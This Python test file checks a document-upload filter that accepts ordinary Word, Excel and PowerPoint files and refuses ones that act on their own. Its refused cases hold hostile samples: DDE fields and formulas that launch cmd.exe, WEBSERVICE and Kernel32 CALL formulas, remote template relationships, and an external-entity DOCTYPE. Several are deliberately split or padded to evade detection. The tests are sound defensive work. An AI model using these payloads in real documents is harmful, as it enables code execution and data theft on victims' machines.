"""Office documents: those that people write are taken, those that act by themselves are not."""

from __future__ import annotations

import zipfile
from collections.abc import Callable, Iterator
from io import BytesIO

import openpyxl
import pytest
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from app.files.documents import check_office
from app.files.kinds import MIB, Unfit
from app.files.sandbox import examine
from tests.files import samples
from tests.files.test_examining import spooled

XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
LINKS = "http://schemas.openxmlformats.org/package/2006/relationships"
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
EXCEL = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
DDE = r"c:\\windows\\system32\\cmd.exe "


def word(body: str, prefix: str = "w") -> bytes:
    """A part of a document with these paragraphs; `body` is written with the prefix w."""
    inside = body.replace("w:", f"{prefix}:")
    name = f"{prefix}:document"
    text = f'{XML}<{name} xmlns:{prefix}="{WORD}"><{prefix}:body>{inside}</{prefix}:body></{name}>'
    return text.encode()


def field(*instruction: str, kind: str = "instrText") -> str:
    """A field whose instruction stands in so many runs."""
    runs = "".join(
        f'<w:r><w:rPr><w:b/></w:rPr><w:{kind} xml:space="preserve">{each}</w:{kind}></w:r>'
        for each in instruction
    )
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    result = mark.format("separate") + "<w:r><w:t>1</w:t></w:r>" + mark.format("end")
    return f"<w:p>{mark.format('begin')}{runs}{result}</w:p>"


def content_types(*entries: str) -> bytes:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return (
        f'{XML}<Types xmlns="{TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels"'
        ' ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
        f"{''.join(entries)}</Types>"
    ).encode()


def relationships(kind: str, target: str = "http://192.0.2.1/a", mode: str = "External") -> bytes:
    where = f' TargetMode="{mode}"' if mode else ""
    kind = kind if "/" in kind else f"{KINDS}/{kind}"
    return (
        f'{XML}<Relationships xmlns="{LINKS}">'
        f'<Relationship Id="rId1" Type="{kind}" Target="{target}"{where}/></Relationships>'
    ).encode()


def document(**parts: bytes | str) -> bytes:
    """A document with these parts besides, or in the place of its own ones."""
    return package(
        {name.replace("__", "/").replace("_xml", ".xml"): each for name, each in parts.items()}
    )


def package(parts: dict[str, bytes | str]) -> bytes:
    menu = word("<w:p><w:r><w:t>Menu</w:t></w:r></w:p>")
    own: dict[str, bytes | str] = {
        "[Content_Types].xml": content_types(),
        "word/document.xml": menu,
    }
    whole = own | parts
    return samples.archive(
        {name: each.encode() if isinstance(each, str) else each for name, each in whole.items()}
    )


def sheet(inside: str) -> bytes:
    """A table whose one sheet holds this, and the words that a workbook begins with."""
    types = content_types().replace(b"word/document.xml", b"xl/workbook.xml")
    return samples.archive(
        {
            "[Content_Types].xml": types.replace(b"document.main", b"sheet.main"),
            "xl/workbook.xml": f'{XML}<workbook xmlns="{EXCEL}"/>'.encode(),
            "xl/worksheets/sheet1.xml": (
                f'{XML}<worksheet xmlns="{EXCEL}"><sheetData><row r="1">{inside}</row></sheetData>'
                "</worksheet>"
            ).encode(),
        }
    )


def formula(text: str) -> bytes:
    return sheet(f'<c r="A1"><f>{text}</f><v>1</v></c>')


# What people write


def from_word() -> bytes:
    """What Word's own template makes: styles, numbering, a header, a picture, links and fields."""
    made = Document()
    made.add_heading("Opening | Apertura", 1)
    made.add_paragraph("Check the walk-in", style="List Bullet")
    made.add_table(2, 2).cell(0, 0).text = "DDEAUTO is a word here"
    made.add_picture(BytesIO(samples.picture("PNG")))
    made.sections[0].footer.paragraphs[0].text = "Page "
    text = made.add_paragraph("Read ")
    link = OxmlElement("w:hyperlink")
    kind = RELATIONSHIP_TYPE.HYPERLINK
    link.set(qn("r:id"), made.part.relate_to("https://example.org/a", kind, is_external=True))
    text._p.append(link)
    for mark in ("begin", "PA", "GE \\* MERGEFORMAT", "separate", "end"):
        run = text.add_run()._r
        if mark in ("begin", "separate", "end"):
            sign = OxmlElement("w:fldChar")
            sign.set(qn("w:fldCharType"), mark)
        else:
            sign = OxmlElement("w:instrText")
            sign.text = mark
        run.append(sign)
    file = BytesIO()
    made.save(file)
    return file.getvalue()


def from_excel() -> bytes:
    """Formulas, a chart, a comment with its drawing, a link, a list to choose from, and a name."""
    book = openpyxl.Workbook()
    page = book.active
    assert page is not None
    page.title = "Lunch | Dinner"
    for number in range(1, 6):
        page.append([f"Dish {number}", number, '=IF(B1>1,"yes|no",A1&"|"&B1)'])
    page["D1"] = "=SUM('Lunch | Dinner'!B1:B5)"
    page["A1"].comment = Comment("Ask the chef", "Ana")
    page["A2"].hyperlink = "https://example.org/menu"
    page.add_data_validation(DataValidation("list", formula1='"yes,no"', sqref="E1:E5"))
    book.defined_names["Prices"] = DefinedName("Prices", attr_text="'Lunch | Dinner'!$B$1:$B$5")
    chart = BarChart()
    chart.add_data(Reference(page, min_col=2, min_row=1, max_row=5))
    page.add_chart(chart, "G2")
    file = BytesIO()
    book.save(file)
    return file.getvalue()


def from_google() -> bytes:
    """As Google Docs writes: its own order of attributes, fonts that are no XML, links to pages."""
    types = content_types(
        '<Default ContentType="image/png" Extension="png"/>',
        '<Override ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"'
        ' PartName="/word/fonts/Lato-regular.ttf"/>',
        '<Override ContentType="application/binary" PartName="/word/metadata"/>',
    )
    link = f'<Relationship Id="rId2" Type="{KINDS}/hyperlink" Target="mailto:a@example.org"'
    return package(
        {
            "[Content_Types].xml": types,
            "word/_rels/document.xml.rels": (
                f'{XML}<Relationships xmlns="{LINKS}">{link} TargetMode="External"/>'
                f'<Relationship Id="rId3" Type="{KINDS}/image" Target="media/image1.png"/>'
                "</Relationships>"
            ),
            "word/document.xml": word(field("PAGE") + field(" HYPER", 'LINK "https://a.example"')),
            "word/fonts/Lato-regular.ttf": b"<\x01\xff<!DOCTYPE" + bytes(range(256)),
            "word/metadata": b"\x08\x01",
            "word/media/image1.png": samples.picture("PNG"),
        }
    )


def from_libreoffice() -> bytes:
    """As LibreOffice writes: fields in one piece, and one part in UTF-16."""
    simple = '<w:p><w:fldSimple w:instr=" DATE \\@&quot;d/M/y&quot; "/></w:p>'
    return document(
        word__document_xml=word(simple + field(' TOC \\o "1-3" \\h ') + field(" SEQ DDE ")),
        customXml__item1_xml='<?xml version="1.0" encoding="UTF-16"?><a>Año</a>'.encode("utf-16"),
        docProps__core_xml=b"\xef\xbb\xbf<?xml version='1.0'?><a/>",
        word___rels__settings_xml=f"{XML}<settings/>",
    )


def from_powerpoint() -> bytes:
    """Slides with buttons that lead to others and to a page."""
    go = '<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>'
    types = content_types().replace(b"word/document.xml", b"ppt/presentation.xml")
    return samples.archive(
        {
            "[Content_Types].xml": types,
            "ppt/presentation.xml": b"<p:presentation xmlns:p='p'/>",
            "ppt/slides/slide1.xml": f"<p:sld xmlns:p='p' xmlns:a='a' xmlns:r='r'>{go}</p:sld>"
            .encode(),
            "ppt/slides/_rels/slide1.xml.rels": relationships("hyperlink"),
        }
    )  # fmt: skip


def with_another_workbook() -> bytes:
    """A table that takes values of another one, which Excel keeps in it."""
    content = formula("[1]Prices!$B$2*2")
    parts = {
        "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{EXCEL}"><externalBook/>'
        "</externalLink>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(
            "externalLinkPath", "prices.xlsx"
        ),
        "xl/drawings/vmlDrawing1.vml": '<xml xmlns:v="v"><v:textbox>one<br>two</v:textbox></xml>',
        "xl/drawings/vmlDrawing2.vml": '<?xml version="1.0"?><xml>one<br>two</xml>',
    }
    file = BytesIO(content)
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as packed:
        for name, each in parts.items():
            packed.writestr(name, each)
    return file.getvalue()


def chart_over(
    table: bytes, link: str = "package", part: str = "word/charts/chart1.xml", ending: str = "xlsx"
) -> bytes:
    """A document with a chart as Word draws it, whose table is a workbook within the document."""
    folder, _, name = part.rpartition("/")
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = f"embeddings/Microsoft_Excel_Worksheet.{ending}"
    return package(
        {
            "[Content_Types].xml": content_types(
                f'<Default Extension="{ending}" ContentType="{kind}"/>'
            ),
            part: f"{XML}<c:chartSpace xmlns:c='c' xmlns:r='r'><c:f>Sheet1!$A$2:$A$5</c:f>"
            '<c:externalData r:id="rId1"><c:autoUpdate val="0"/></c:externalData></c:chartSpace>',
            f"{folder}/_rels/{name}.rels": relationships(link, f"../{book}", mode=""),
            f"word/{book}": table,
        }
    )


def from_word_with_a_chart() -> bytes:
    return chart_over(from_excel())


def with_harmless_formulas() -> bytes:
    """What reads like a function that asks, and is a sheet, a column, a text or a link."""
    return sheet(
        "".join(
            f'<c r="A{number}"><f>{each}</f></c>'
            for number, each in enumerate(
                (
                    "'Image (2)'!B2+'It''s a call (1)'!B2",
                    "IF(A1,&quot;Call (210) 555&quot;,&quot;web &quot;&quot;service(1)&quot;)",
                    "SUM(Prices[call (day)],Prices[[#All],[rtd ('[x)]])",
                    "HYPERLINK(&quot;https://example.org/&quot;&amp;A1)",
                    "ROLLCALL(A1)+CALLS*(2)+PYTHON(1)",
                    "IFERROR(__xludf.DUMMYFUNCTION(&quot;UNIQUE(A:A)&quot;),1)",
                )
            )
        )
        + '<v:shape xmlns:v="v" href="https://example.org"><v:imagedata src="cid:a@b"/>'
        '<v:fill src="../media/a.png"/></v:shape><image href="data:image/png;base64,AA"/>'
    )


@pytest.mark.parametrize(
    ("write", "ending"),
    [
        (from_word, "document"),
        (from_excel, "sheet"),
        (from_google, "document"),
        (from_libreoffice, "document"),
        (from_powerpoint, "presentation"),
        (with_another_workbook, "sheet"),
        (from_word_with_a_chart, "document"),
        (with_harmless_formulas, "sheet"),
    ],
)
def test_what_people_write_is_taken(write: Callable[[], bytes], ending: str) -> None:
    assert check_office(write()).endswith(f".{ending}")


def test_a_large_table_is_read_within_what_the_child_may_cost() -> None:
    row = "".join(
        f'<c r="A{n}" s="1"><f>A1+{n}</f><v>{n * 7919 % 10007}</v></c>' for n in range(50)
    )
    content = sheet(row * 12_000)
    with zipfile.ZipFile(BytesIO(content)) as packed:
        assert packed.getinfo("xl/worksheets/sheet1.xml").file_size > 20 * MIB
    assert examine(spooled(content)).kind == "office"


# What acts by itself

OFFICE = "application/vnd.openxmlformats-officedocument"


def declared(kind: str) -> bytes:
    entry = f'<Override PartName="/word/a.dat" ContentType="{kind}"/>'
    return package({"[Content_Types].xml": content_types(entry), "word/a.dat": b"x"})


def far_down(content: bytes) -> bytes:
    """The same behind more than a mebibyte of nothing."""
    return content.replace(b"?>\n", b"?>\n" + b" " * (MIB + 100), 1)


def in_utf16(content: bytes) -> bytes:
    return content.decode().replace("UTF-8", "UTF-16").encode("utf-16")


def hidden() -> Iterator[tuple[str, bytes, str]]:
    """What is refused: its name in the tests, the document, and why."""
    macros = content_types('<Default Extension="bin" ContentType="application/x.vbaProject"/>')
    for name in ("word/vbaProject.bin", "WORD\\VBAPROJECT.BIN", "xl/macrosheets/sheet1.xml",
                 "word/vbaData.xml"):  # fmt: skip
        yield f"a part {name}", package({name: b"<a/>"}), "programs"
    for name in ("word/embeddings/oleObject1.bin", "word/embeddings/Sheet1.xlsx",
                 "word/activeX/activeX1.xml", "ppt/%65mbeddings/a.bin"):  # fmt: skip
        yield f"a part {name}", package({name: b"<a/>"}), "embedded"
    for kind in ("application/vnd.ms-office.vbaProject",
                 "application/vnd.ms-word.document.macroEnabled.main+xml",
                 "APPLICATION/VND.MS-EXCEL.MACROSHEET+XML"):  # fmt: skip
        yield f"declared as {kind}", declared(kind), "programs"
    for kind in (f"{OFFICE}.oleObject", "application/vnd.ms-office.activeX+xml",
                 f"{OFFICE}.spreadsheetml.sheet", f"{OFFICE}.package", "application/msword",
                 "application/rtf"):  # fmt: skip
        yield f"declared as {kind}", declared(kind), "embedded"
    yield "declared far down", package({"[Content_Types].xml": far_down(macros)}), "programs"
    yield "declared in UTF-16", package({"[Content_Types].xml": in_utf16(macros)}), "programs"
    escaped = macros.replace(b"vbaProject", b"vb&#97;Project")
    yield "declared with references", package({"[Content_Types].xml": escaped}), "programs"
    for kind in ("oleObject", "package", "control", "aFChunk", "subDocument"):
        inside = relationships(kind, "media/image1.png", mode="")
        yield f"a part that is {kind}", document(**{"word/_rels/document.xml.rels": inside}), (
            "embedded"
        )  # fmt: skip
    vba = relationships("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.b")
    yield "a part that is vbaProject", document(**{"word/_rels/document.xml.rels": vba}), "programs"


def loading() -> Iterator[tuple[str, bytes, str]]:
    for kind in ("attachedTemplate", "frame", "image", "externalLink", "customXml"):
        outside = relationships(kind)
        yield kind, document(**{"word/_rels/settings.xml.rels": outside}), "loads"
        yield f"{kind} without a mode", document(
            **{"word/_rels/settings.xml.rels": relationships(kind, mode="")}
        ), "loads"  # fmt: skip
    far = far_down(relationships("image"))
    yield "far down", document(**{"word/_rels/document.xml.rels": far}), "loads"
    yield "in UTF-16", document(**{"word/_rels/a.rels": in_utf16(relationships("image"))}), "loads"
    other = relationships("image").replace(b"<Rel", b"<p:Rel").replace(b"</Rel", b"</p:Rel")
    other = other.replace(b"xmlns=", b"xmlns:p=")
    yield "with a prefix", document(**{"word/_rels/document.xml.rels": other}), "loads"
    for kind in ("instrText", "delInstrText"):
        yield f"DDE in {kind}", document(word__document_xml=word(field("DDE " + DDE, kind=kind))), (
            "loads"
        )  # fmt: skip
    for parts in ((" ddeauto " + DDE,), ("D", "DE", "AUTO", " " + DDE), ("\n ", " DDE", "AUTO x")):
        yield f"a field of {len(parts)}", document(word__document_xml=word(field(*parts))), "loads"
    nested = field("DD", "#", "EAUTO c").replace(
        '<w:instrText xml:space="preserve">#</w:instrText>',
        '<w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 1</w:instrText>'
        '<w:fldChar w:fldCharType="end"/>',
    )
    yield "a field around a field", document(word__document_xml=word(nested)), "loads"
    two = field("DDE", "AUTO x").replace("</w:r><w:r><w:rPr>", "</w:r></w:p><w:p><w:r><w:rPr>")
    yield "over paragraphs", document(word__header1_xml=word(two)), "loads"
    bare = "<w:p><w:r><w:instrText>PAGE</w:instrText></w:r></w:p><w:p><w:r><w:instrText>D"
    bare += "</w:instrText><w:instrText>DE x</w:instrText></w:r></w:p>"
    yield "without a begin", document(word__document_xml=word(bare)), "loads"
    simple = f'<w:p><w:fldSimple w:instr=" DDEAUTO {DDE}"/></w:p>'
    yield "a simple field", document(word__document_xml=word(simple)), "loads"
    yield "another prefix", document(word__document_xml=word(simple, "zz")), "loads"
    yield "a far field", document(word__document_xml=far_down(word(simple))), "loads"
    elsewhere = package({
        "[Content_Types].xml": content_types(
            '<Override PartName="/word/%61.dat" ContentType="application/x.document+xml"/>'
        ),
        "word/a.dat": word(simple).partition(b"\n")[2],
    })  # fmt: skip
    yield "a part of another name", elsewhere, "loads"
    bare = word(simple).partition(b"\n")[2]
    yield "a part of no type", document(**{"word/a.dat": bare}), "loads"


def loading_tables() -> Iterator[tuple[str, bytes, str]]:
    yield "ddeLink", sheet('<x:ddeLink xmlns:x="x" ddeService="cmd" ddeTopic="/c calc"/>'), "loads"
    for text in ("cmd|'/C calc'!A0", "1+cmd |'/C calc'!A0", "MSEXCEL|'\\..\\cmd'!x", "cmd|x!A0",
                 "&quot;&quot;&amp;cmd|'/C calc'!A0", "cmd&#124;'/C ''calc'!A0",
                 "dde(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)"):  # fmt: skip
        yield f"the formula {text}", formula(text), "loads"
    name = "<definedName name='a'>cmd|'/C calc'!A0</definedName>"
    yield "a name", sheet(name), "loads"
    action = b'<a:hlinkClick xmlns:a="a" action="ppaction://program"/>'
    yield "a program on a slide", samples.office("ppt/presentation.xml", a_xml=action), "loads"


ASKING = (
    "WEBSERVICE(&quot;http://192.0.2.1/&quot;&amp;A1)",
    "_xlfn.WEBSERVICE(A1)",
    "1+_xlfn.Image(A1)",
    "webservice (A1)",
    "_xlfn._xlws.PY(0,1)",
    "MAP(A1:A3,_xleta.WEBSERVICE)",
    "rtd(&quot;a.b&quot;,,A1)",
    "CALL(&quot;Kernel32&quot;,A1)",
    "REGISTER.ID(A1,A2)",
    "'Lunch'!A1&amp;Prices['']&amp;WEBSERVICE(A1)&amp;Prices['']",
    "&quot;a&quot;&quot;&quot;&amp;IMAGE(A1)",
    "'not a sheet WEBSERVICE(A1)'",
    "IMPORTXML(A1,A2)",
    "IFERROR(__xludf.DUMMYFUNCTION(&quot;IMPORTDATA(A1)&quot;),1)",
)


def asking() -> Iterator[tuple[str, bytes, str]]:
    """Tables that ask a server."""
    for text in ASKING:
        yield f"the formula {text}", formula(text), "loads"
    asks = "_xlfn.WEBSERVICE(A1)"
    for name, inside in {
        "a name": f"<definedName name='a'>{asks}</definedName>",
        "a condition": f"<cfRule><formula>{asks}</formula></cfRule>",
        "a newer condition": f"<x14:cfRule xmlns:x14='x'><xm:f xmlns:xm='y'>{asks}</xm:f>"
        "</x14:cfRule>",
        "a limit of a condition": f"<cfvo type='formula' val='{asks}'/>",
        "a rule": f"<dataValidation><formula1>1</formula1><formula2>{asks}</formula2>"
        "</dataValidation>",
        "a column of a table": f"<calculatedColumnFormula>{asks}</calculatedColumnFormula>",
        "a field of a cache": f"<cacheField formula='{asks}'/>",
        "a drawing": f"<xdr:sp xmlns:xdr='x' textlink='{asks}'/>",
        "a name elsewhere": f"<definedName name='a' refersTo='={asks}'/>",
        "a query": "<queryTable refreshOnLoad='1'/>",
        "a cache of a server": "<cacheSource type='external' connectionId='1'/>",
        "data of RTD": "<volTypes/>",
    }.items():
        yield name, sheet(inside), "loads"


def connected() -> Iterator[tuple[str, bytes, str]]:
    """Parts that are connections, queries and add-ins, by name, type and link."""
    for name in ("xl/connections.xml", "xl/queryTables/queryTable1.xml",
                 "xl/volatileDependencies.xml", "XL/Query%54ables/a.dat",
                 "word/webextensions/taskpanes.xml",
                 "xl/richData/rdRichValueWebImage.xml"):  # fmt: skip
        yield f"a part {name}", package({name: b"<a/>"}), "loads"
    for kind in (f"{OFFICE}.spreadsheetml.connections+xml",
                 f"{OFFICE}.spreadsheetml.queryTable+xml",
                 "application/vnd.ms-office.webextension+xml",
                 "application/vnd.ms-office.webextensiontaskpanes+xml"):  # fmt: skip
        yield f"declared as {kind}", declared(kind), "loads"
    addins = "http://schemas.microsoft.com/office/2011/relationships"
    for kind in ("connections", "queryTable", "volatileDependencies", f"{addins}/webextension",
                 f"{addins}/webextensiontaskpanes"):  # fmt: skip
        inside = relationships(kind, "a.xml", mode="")
        yield f"a part that is {kind}", document(**{"word/_rels/document.xml.rels": inside}), (
            "loads"
        )  # fmt: skip
    for element in ("w:mailMerge", "we:taskpanes", "wp15:webVideoPr", "dm:DataMashup"):
        prefix = element.partition(":")[0]
        inside = f"{XML}<a xmlns:{prefix}='x'><{element}/></a>".encode()
        yield element, document(word__settings_xml=inside), "loads"


def fetching() -> Iterator[tuple[str, bytes, str]]:
    """Documents and drawings that fetch."""
    address = "&quot;http://192.0.2.1/a&quot;"
    for kind in ("INCLUDEPICTURE", "IncludeText", "DATABASE", "IMPORT", "RD", "INCLUDE"):
        simple = f'<w:p><w:fldSimple w:instr=" {kind} {address} \\d"/></w:p>'
        yield f"a simple field {kind}", document(word__document_xml=word(simple)), "loads"
        split = field(f" {kind[0]}", kind[1:4], kind[4:] + " ", address)
        yield f"a field {kind}", document(word__header1_xml=word(split)), "loads"
    for element in ("v:imagedata src='http://192.0.2.1/a'", "v:imagedata o:href='//192.0.2.1/a'",
                    "v:fill o:althref=' file://192.0.2.1/a'", "v:stroke src='\\\\192.0.2.1\\a'",
                    "v:image src='HTTPS://a.example'",
                    "image o:href='http://192.0.2.1/a.png'"):  # fmt: skip
        drawing = f"<xml xmlns:v='v' xmlns:o='o'><{element}/></xml>"
        yield element, document(**{"word/drawings/vmlDrawing1.vml": drawing}), "loads"
        text = f"<w:p><v:shape xmlns:v='v' xmlns:o='o'><{element}/></v:shape></w:p>"
        yield f"{element} in a text", document(word__document_xml=word(text)), "loads"
        rough = f"<xml>one<br></b>two{' ' * (MIB - 30)}<{element.replace('=', ' = ')}></xml>"
        rough = rough.replace("http:", "ht&#116;p:")
        yield f"{element}, not well-formed", document(**{"word/a.vml": rough}), "loads"
    for element in ("v:imagedata", "a:blip", "asvg:svgBlip", "a:videoFile", "a:hlinkHover",
                    "xdr:x", "address", "worksheetSource"):  # fmt: skip
        prefix = element.partition(":")[0]
        inside = f"{XML}<a xmlns:{prefix}='x' xmlns:r='r'><{element} r:id='rId1'/></a>"
        parts = {
            "word/_rels/a.xml.rels": relationships("hyperlink"),
            "word/a.xml": inside,
        }
        yield f"{element} of a link", document(**parts), "loads"


def charts() -> Iterator[tuple[str, bytes, str]]:
    """Charts over what is no plain table."""
    yield "that asks", chart_over(formula("WEBSERVICE(A1)")), "loads"
    macros = {"[Content_Types].xml": content_types(), "xl/vbaProject.bin": b"x"}
    yield "with macros", chart_over(samples.archive(macros | {"xl/workbook.xml": b"<a/>"})), (
        "programs"
    )  # fmt: skip
    yield "that is a document", chart_over(document()), "embedded"
    yield "that is no archive", chart_over(b"<a/>"), "embedded"
    yield "that is cut off", chart_over(from_excel()[:-40]), "embedded"
    yield "that is an archive", chart_over(samples.archive({"a.txt": b"a"})), "archive"
    file = BytesIO(from_excel())
    with zipfile.ZipFile(file, "a") as packed:
        packed.writestr("xl/embeddings/Sheet1.xlsx", from_excel())
    yield "with another one in it", chart_over(file.getvalue()), "embedded"
    yield "of another ending", chart_over(from_excel(), ending="xlsb"), "embedded"
    yield "that is an object", chart_over(from_excel(), "oleObject"), "embedded"
    yield "of a document", chart_over(from_excel(), part="word/document.xml"), "embedded"
    big = {f"xl/a{number}.bin": bytes(8 * MIB) for number in range(2)}
    table = samples.archive(
        {"[Content_Types].xml": content_types(), "xl/workbook.xml": b"<a/>"} | big
    )
    yield "that unpacks to too much", chart_over(table), "bomb"


def broken() -> Iterator[tuple[str, bytes, str]]:
    doctype = word("").replace(b"\n", b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]>", 1)
    yield "a DOCTYPE", document(word__document_xml=doctype), "unsafe"
    late = word("").replace(b"\n", b"<!--" + b"x" * (2 * MIB) + b"--><!DOCTYPE a>", 1)
    yield "a DOCTYPE far down", document(word__document_xml=late), "unsafe"
    yield "in a part of another name", document(**{"word/a.dat": doctype}), "unsafe"
    yield "in UTF-16", document(word__a_xml=in_utf16(doctype)), "unsafe"
    for encoding in ("ISO-8859-1", "UTF-7", "cp037", "windows-1252"):
        other = word("").replace(b"UTF-8", encoding.encode())
        yield f"as {encoding}", document(word__document_xml=other), "broken"
    yield "in EBCDIC", document(word__a_xml=f"{XML}<a/>".encode("cp037")), "broken"
    yield "in UTF-32", document(word__a_xml="<a/>".encode("utf-32")), "broken"
    yield "cut off", document(word__a_xml=b"<a><b>"), "broken"


REFUSED = [
    *hidden(),
    *loading(),
    *loading_tables(),
    *asking(),
    *connected(),
    *fetching(),
    *charts(),
    *broken(),
]


@pytest.mark.fault(29)
@pytest.mark.parametrize(
    ("content", "code"), [pytest.param(content, code, id=name) for name, content, code in REFUSED]
)
def test_what_acts_by_itself_is_refused_wherever_it_stands(content: bytes, code: str) -> None:
    with pytest.raises(Unfit) as refused:
        check_office(content)
    assert refused.value.code == code


def test_elements_within_elements_are_refused_by_the_child() -> None:
    file = BytesIO(document())
    with zipfile.ZipFile(file, "a") as packed:
        packed.writestr("word/header1.xml", "<a>" * (5 * MIB))
    with pytest.raises(Unfit) as refused:
        examine(spooled(file.getvalue()))
    assert refused.value.code in ("broken", "too_much")
